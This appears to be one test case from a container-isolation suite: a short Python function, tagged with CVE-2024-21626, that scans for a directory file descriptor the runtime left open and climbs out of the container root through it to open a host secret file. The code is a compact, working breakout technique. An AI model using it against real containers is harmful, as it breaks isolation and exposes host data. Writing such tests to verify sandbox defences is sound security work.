"""Uses a directory that the runtime left open to climb out of the root.

Threats: C2 E22 CVE-2024-21626
Contract: confidentiality
"""


def attack():
    climb = "/".join([".."] * 40)
    for number in range(3, 4096):
        try:
            if stat.S_ISDIR(os.fstat(number).st_mode):
                os.close(os.open(climb + HOST["secret"], os.O_RDONLY, dir_fd=number))
                return f"descriptor {number}"
        except OSError:
            continue
    return None


run(attack)
